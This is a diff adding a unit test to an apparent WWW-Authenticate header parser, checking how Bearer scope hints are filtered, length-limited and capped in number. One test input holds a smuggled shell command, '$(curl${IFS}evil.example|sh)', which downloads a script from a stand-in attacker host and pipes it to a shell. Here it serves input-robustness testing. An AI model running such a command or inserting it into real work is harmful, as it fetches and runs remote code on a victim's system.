@@ -73,6 +73,15 @@ describe('a WWW-Authenticate header', () => {
     expect(tokenHints(['Bearer scope=""'])).toEqual({ scope: '' });
   });
 
+  test('may name scopes: only words that can be scopes count, and no endless number of them', () => {
+    const scopeOf = (scope: string) => tokenHints([`Bearer scope="${scope}"`]).scope;
+    expect(scopeOf('read  $(curl${IFS}evil.example|sh) caf\u00e9 a\tb \\"quoted\\" write:all')).toBe(
+      'read $(curl${IFS}evil.example|sh) write:all',
+    );
+    expect(scopeOf(`${'a'.repeat(201)} b`)).toBe('b');
+    expect(scopeOf('s '.repeat(100))?.split(' ')).toHaveLength(32);
+  });
+
   test('never breaks the reader, whatever it holds', () => {
     const line = fc.string({ unit: fc.constantFrom('a', 'B', '=', '"', '\\', ',', ' ', '\t', 'é', 'Bearer ') });
     fc.assert(fc.property(fc.array(line), (lines) => Array.isArray(parseChallenges(lines))));
